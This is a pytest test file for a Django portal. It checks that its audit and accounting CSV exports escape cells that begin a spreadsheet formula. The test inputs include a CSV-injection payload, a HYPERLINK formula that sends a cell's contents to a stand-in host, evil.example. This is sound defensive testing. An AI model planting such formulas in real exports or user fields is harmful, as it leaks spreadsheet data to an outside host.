"""Every CSV export escapes formulas (issue 32 item 5): a cell that begins with = + - @, a tab
or a carriage return gets a leading quote (OWASP's rule for CSV injection). A failed sign-in
needs no account, and its username landed as it was in the audit CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from portal.core.csvcells import cell

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def test_a_failed_web_sign_in_lands_escaped_in_the_audit_csv(api, cluster_admin):
    Client().post("/login/", {"username": FORMULA, "password": "wrong"})
    answer = api(cluster_admin).get("/api/v1/audit/", {"format": "csv"})
    text = b"".join(answer.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    cells = [value for row in rows for value in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)


def test_the_accounting_csv_escapes_a_username_that_starts_a_formula(
    api, cluster_admin, team_a, nodes
):
    from portal.tenancy.models import Membership

    mallory = get_user_model().objects.create_user("@mallory", password="x-test-password-1")
    Membership.objects.create(user=mallory, project=team_a, role="researcher")
    body = {"project": "team-a", "name": "t1", "gpus": 1}
    assert api(mallory).post("/api/v1/jobs/", body, format="json").status_code == 201
    from portal.scheduling.settle import settle

    settle()
    answer = api(cluster_admin).get("/api/v1/accounting/", {"group_by": "user", "format": "csv"})
    text = answer.content.decode() if not answer.streaming else b"".join(
        answer.streaming_content).decode()  # fmt: skip
    cells = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'@mallory" in cells and "@mallory" not in cells


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_quoted(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["bob", "team-a", "", 3, -2.5, None])
def test_plain_text_and_numbers_are_kept(value):
    assert cell(value) == value
